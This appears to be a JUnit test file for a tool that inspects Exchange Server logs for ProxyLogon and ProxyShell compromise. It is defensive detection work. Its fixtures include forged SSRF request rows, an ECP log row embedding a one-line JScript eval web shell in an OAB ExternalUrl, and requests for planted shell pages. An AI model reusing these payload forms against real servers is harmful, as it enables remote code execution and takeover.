package org.wachtpost.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.wachtpost.inspect.model.Finding;
import org.wachtpost.inspect.model.InspectReport;
import org.wachtpost.inspect.model.Stage;
import org.wachtpost.inspect.model.Verdict;

/** Small hand-made logs through the whole inspection. */
class ChainTest {
  private static final String FIELDS =
      "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n"
          + "#Log-type: HttpProxy Logs\r\n#Fields: DateTime,RequestId,UrlHost,UrlStem,"
          + "AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,"
          + "BackEndStatus,Method,TargetServer,RoutingHint,BackEndCookie,UrlQuery\r\n";
  private static final String QUIET =
      "2021-03-03T06:00:00.000Z,r0,mail,/owa/,EXAMPLE\\ann,Sid~S-1,Mozilla,10.0.0.9,EX01,200,200,"
          + "GET,ex01.example.test,WindowsIdentity,,\r\n";

  @TempDir Path folder;

  private String printed = "";

  private static String forged(String time, String target, String status) {
    return "2021-03-03T"
        + time
        + "Z,r"
        + time
        + ",mail.example.test,/ecp/y.js,,ServerInfo~a]@"
        + target
        + ",ExchangeServicesClient/0.0.0.0,203.0.113.7,EX01,"
        + status
        + ","
        + status
        + ",POST,ex01.example.test,X-BEResource-Cookie,,\r\n";
  }

  private InspectReport inspect(String... rows) throws Exception {
    Path log =
        folder.resolve(
            "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/"
                + "HttpProxy_2021030306-1.LOG");
    Files.createDirectories(log.getParent());
    Files.writeString(log, FIELDS + QUIET + String.join("", rows));
    return run();
  }

  private InspectReport run() throws Exception {
    return Inspected.of(folder);
  }

  /** A row of ordinary traffic every hour, from this moment on. */
  private static String quietHours(String start, int hours) {
    StringBuilder rows = new StringBuilder();
    for (int hour = 0; hour <= hours; hour++) {
      String time = Instant.parse(start).plus(Duration.ofHours(hour)).toString();
      rows.append(time.replace("Z", ".000Z")).append(QUIET.substring(QUIET.indexOf(',')));
    }
    return rows.toString();
  }

  @Test
  void ordinaryTrafficIsNothingFoundInWhatWasCovered() throws Exception {
    InspectReport report = inspect(quietHours("2021-03-03T07:00:00Z", 48));
    assertThat(report.verdict()).isEqualTo(Verdict.NOTHING_FOUND);
    assertThat(report.summary()).contains("in what was covered: HttpProxy ecp 2021-03-03");
  }

  @Test
  void aFewHoursOfLogsAreNotEnoughToSayNothing() throws Exception {
    InspectReport report = inspect(quietHours("2021-03-03T07:00:00Z", 46));
    assertThat(report.verdict()).isEqualTo(Verdict.CANNOT_TELL);
    assertThat(report.summary())
        .contains("HttpProxy ecp, covers 47 hours")
        .contains("in what was covered: HttpProxy ecp 2021-03-03");
    assertThat(inspect().verdict()).isEqualTo(Verdict.CANNOT_TELL);
  }

  @Test
  void hoursThatAreMissingDoNotCount() throws Exception {
    String[] rows = {
      quietHours("2021-03-03T07:00:00Z", 22), quietHours("2021-03-10T07:00:00Z", 22)
    };
    assertThat(inspect(rows).verdict()).isEqualTo(Verdict.CANNOT_TELL);
  }

  @Test
  void pagesWithoutLogsAreNotEnough() throws Exception {
    Path page = folder.resolve("V15/FrontEnd/HttpProxy/owa/auth/logon.aspx");
    Files.createDirectories(page.getParent());
    Files.writeString(page, "<%@ Page Language=\"C#\" %><html><body>Hello</body></html>");
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.CANNOT_TELL);
    assertThat(report.summary()).contains("no web log");
  }

  @Test
  void theTimeAskedAboutIsWhatMustBeCovered() throws Exception {
    inspect(quietHours("2021-03-03T07:00:00Z", 60));
    assertThat(exit("--since", "2021-03-04", "--until", "2021-03-04")).isZero();
    assertThat(exit("--since", "2021-03-05")).isEqualTo(3);
    assertThat(exit("--since", "2021-03-03", "--until", "2021-03-03")).isEqualTo(3);
    assertThat(exit("--since", "2022-01-01")).isEqualTo(3);
    assertThat(exit("--until", "2021-12-31")).isZero();
    assertThat(printed).contains("HttpProxy ecp ends on 2021-03-05");
  }

  private int exit(String... options) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    PrintStream stream = new PrintStream(out, true, StandardCharsets.UTF_8);
    List<String> arguments = new ArrayList<>(List.of(folder.toString()));
    arguments.addAll(List.of(options));
    int exit = InspectCommand.run(arguments, stream, stream);
    printed = out.toString(StandardCharsets.UTF_8);
    return exit;
  }

  @Test
  void nothingAtAllIsCannotTell() throws Exception {
    Files.writeString(folder.resolve("readme.txt"), "hello");
    assertThat(run().verdict()).isEqualTo(Verdict.CANNOT_TELL);
    assertThat(run().coverage().unclaimed()).containsEntry(".txt", 1L);
  }

  @Test
  void aRequestToLocalhostIsAProbe() throws Exception {
    InspectReport report = inspect(forged("06:49:01", "localhost/ecp/default.flt?#", "500"));
    assertThat(report.verdict()).isEqualTo(Verdict.PROBED);
  }

  @Test
  void autodiscoverAndMapiAreAnAttempt() throws Exception {
    InspectReport report =
        inspect(
            forged("06:49:01", "EX01.example.test:444/autodiscover/autodiscover.xml?#", "200"),
            forged("06:49:02", "EX01.example.test:444/mapi/emsmdb/?#", "200"));
    assertThat(report.verdict()).isEqualTo(Verdict.ATTEMPTED);
    assertThat(report.incidents()).hasSize(1);
  }

  @Test
  void aForeignHostIsToldFromTheServer() throws Exception {
    assertThat(inspect(forged("06:49:01", "x.oastify.com/ecp/x?#", "200")).verdict())
        .isEqualTo(Verdict.PROBED);
    assertThat(inspect(forged("06:49:01", "evil.example.org/ecp/x?#", "200")).verdict())
        .isEqualTo(Verdict.ATTEMPTED);
  }

  @Test
  void aSessionIsLikelyAndAResetIsCompromise() throws Exception {
    String session = forged("06:49:03", "EX01:444/ecp/proxyLogon.ecp?#", "241");
    assertThat(inspect(session).verdict()).isEqualTo(Verdict.LIKELY_COMPROMISED);
    String reset =
        forged(
            "06:49:09",
            "EX01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abcdefgh1"
                + "&schema=ResetOABVirtualDirectory#",
            "200");
    InspectReport report = inspect(session, reset);
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    Finding written =
        report.findings().stream()
            .filter(one -> one.stage() == Stage.WRITTEN)
            .findFirst()
            .orElseThrow();
    assertThat(written.source().line()).isEqualTo(7);
    assertThat(written.source().sha256()).hasSize(64);
    assertThat(written.detail("canary")).isEqualTo("abcdefgh1");
  }

  @Test
  void theControlPanelsLogJoinsTheForgedRequest() throws Exception {
    Path ecp =
        folder.resolve(
            "C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/"
                + "ECPServer20210303-1.LOG");
    Files.createDirectories(ecp.getParent());
    Files.writeString(
        ecp,
        "#Log-type: ECP Server Log\r\n"
            + "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
            + "2021-03-03T06:49:08.120Z,EX01,ECP.Request,\"S:TIME=1;S:CMD=Set-OabVirtualDirectory."
            + "ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function "
            + "Page_Load(){eval(Request[\"\"k\"\"],\"\"unsafe\"\");}</script>'.Identity='1';"
            + "S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abcdefgh1&schema=OAB\"\r\n");
    InspectReport report =
        inspect(
            forged(
                "06:49:08",
                "EX01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abcdefgh1"
                    + "&schema=OABVirtualDirectory#",
                "200"));
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    assertThat(report.incidents()).hasSize(1);
    assertThat(report.incidents().getFirst().clients()).containsExactly("203.0.113.7");
    assertThat(report.findings()).anyMatch(one -> one.check().equals("I05") && one.decisive());
  }

  @Test
  void anAddressBookDownloadOutsideItsFolderIsAWrite() throws Exception {
    Path log = folder.resolve("V15/Logging/OABGeneratorLog/OAB2021.log");
    Files.createDirectories(log.getParent());
    Files.writeString(
        log,
        "2021-03-03T06:49:01.000Z Download failed and temporary file "
            + "'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed\r\n"
            + "2021-03-04T06:49:01.000Z Download failed and temporary file "
            + "'C:\\Program Files\\V15\\ClientAccess\\OAB\\Temp\\1.tmp' needs to be removed\r\n");
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.COMPROMISED);
    assertThat(report.findings()).hasSize(1);
  }

  @Test
  void laterChainsAreGradedTheSameWay() throws Exception {
    String proxyShell =
        "2021-08-20T06:49:01Z,r1,mail,/autodiscover/autodiscover.json,,,python,"
            + "203.0.113.8,EX01,%s,%s,POST,ex01,,,?@evil.example/%s?&Email=autodiscover/"
            + "autodiscover.json%%3F@evil.example\r\n";
    assertThat(inspect(proxyShell.formatted("404", "404", "mapi/nspi/")).verdict())
        .isEqualTo(Verdict.PROBED);
    assertThat(inspect(proxyShell.formatted("200", "200", "mapi/nspi/")).verdict())
        .isEqualTo(Verdict.ATTEMPTED);
    assertThat(inspect(proxyShell.formatted("200", "200", "powershell/")).verdict())
        .isEqualTo(Verdict.LIKELY_COMPROMISED);
    String ordinary =
        "2021-08-20T06:49:01Z,r1,mail,/autodiscover/autodiscover.json/v1.0/"
            + "ann@example.test,,,Outlook,203.0.113.8,EX01,200,200,GET,ex01,,,?Protocol=Ews\r\n";
    assertThat(inspect(quietHours("2021-08-19T00:00:00Z", 48), ordinary).verdict())
        .isEqualTo(Verdict.NOTHING_FOUND);
  }

  @Test
  void networksThatTheResponderNamedAreNamedWhereverAClientIsTold() throws Exception {
    inspect(forged("06:49:02", "EX01:444/mapi/emsmdb/?#", "200"));
    exit("--network", "203.0.113.0/24=the ISP", "203.0.113.7/32=that one");
    assertThat(printed).contains("203.0.113.7 (that one): ProxyLogon");
    exit("--json", "--network", "203.0.113.0/24=the ISP");
    assertThat(printed)
        .contains("203.0.113.7 (the ISP): ProxyLogon")
        .contains("\"network\": \"the ISP\"");
    exit("--network", "198.51.100.0/24=elsewhere");
    assertThat(printed).contains("203.0.113.7: ProxyLogon");
  }

  private void iis(String... rows) throws IOException {
    Path log = folder.resolve("C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log");
    Files.createDirectories(log.getParent());
    Files.writeString(
        log,
        "#Software: Microsoft Internet Information Services 10.0\r\n"
            + "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip"
            + " cs(User-Agent) sc-status\r\n2021-03-03 05:00:00 10.0.0.1 GET /owa/auth/logon.aspx"
            + " - 443 - 198.51.100.4 Mozilla 200\r\n"
            + String.join("", rows));
  }

  private static String asked(String method, String stem, String client, int status) {
    return "2021-03-03 06:00:00 10.0.0.1 "
        + method
        + " "
        + stem
        + " - 443 - "
        + client
        + " Mozilla "
        + status
        + "\r\n";
  }

  @Test
  void askingInVainForOtherPeoplesShellsIsAProbe() throws Exception {
    iis(
        asked("GET", "/aspnet_client/shell.aspx", "203.0.113.9", 404),
        asked("GET", "/owa/auth/errorEE.aspx", "203.0.113.9", 302));
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.PROBED);
    assertThat(report.findings()).filteredOn(one -> one.check().equals("I14")).hasSize(1);
  }

  @Test
  void aStrangePageThatTakesPostsIsAShellInUse() throws Exception {
    iis(asked("POST", "/OWA/auth/%45rrorEE.aspx", "203.0.113.9", 200));
    InspectReport report = run();
    assertThat(report.verdict()).isEqualTo(Verdict.LIKELY_COMPROMISED);
    assertThat(report.findings())
        .anyMatch(one ->
            one.stage() == Stage.SHELL_USED && "/owa/auth/erroree.aspx".equals(one.detail("path")));
  }

  @Test
  void theCommandPrintsOneJsonDocumentAndItsExitStatus() throws Exception {
    inspect(forged("06:49:01", "localhost/ecp/default.flt?#", "500"));
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    ByteArrayOutputStream err = new ByteArrayOutputStream();
    int exit =
        InspectCommand.run(
            List.of(folder.toString(), "--json"),
            new PrintStream(out, true, StandardCharsets.UTF_8),
            new PrintStream(err, true, StandardCharsets.UTF_8));
    assertThat(exit).isEqualTo(10);
    assertThat(out.toString(StandardCharsets.UTF_8))
        .startsWith("{\n  \"schema\"")
        .endsWith("}\n")
        .contains("\"verdict\": \"probed\"");
    assertThat(err.toString(StandardCharsets.UTF_8)).isEmpty();
  }

  @Test
  void badArgumentsAreUsageAndMissingEvidenceIsFailure() {
    PrintStream none = new PrintStream(new ByteArrayOutputStream());
    for (List<String> wrong :
        List.of(
            List.<String>of(),
            List.of("--nonsense"),
            List.of(""),
            List.of(".", "--since"),
            List.of(".", "--since", "yesterday"),
            List.of(".", "--threads", "0"),
            List.of(".", "--json=yes"),
            List.of(".", "--since", "2021-01-01", "--since", "2021-01-02"),
            List.of(".", "--network", "10.0.0.0/8=a", "10.0.0.0/8=b"),
            List.of(".", "--network", "ten"),
            List.of(".", "--iis-timezone", "Mars"),
            List.of(".", "--since", "2021-01-02", "--until", "2021-01-01"))) {
      assertThat(InspectCommand.run(wrong, none, none)).as("%s", wrong).isEqualTo(2);
    }
    assertThat(InspectCommand.run(List.of(folder + "/none"), none, none)).isEqualTo(1);
    for (String option : List.of("--rules", "--baseline", "--report")) {
      String unusable = option.equals("--rules") ? folder.toString() : "/proc/none";
      assertThat(InspectCommand.run(List.of("/proc/self/fd", option, unusable), none, none))
          .as(option)
          .isEqualTo(1);
    }
    assertThat(
            InspectCommand.run(
                List.of(folder.toString(), "--report", folder + "/inside"), none, none))
        .isEqualTo(1);
  }
}
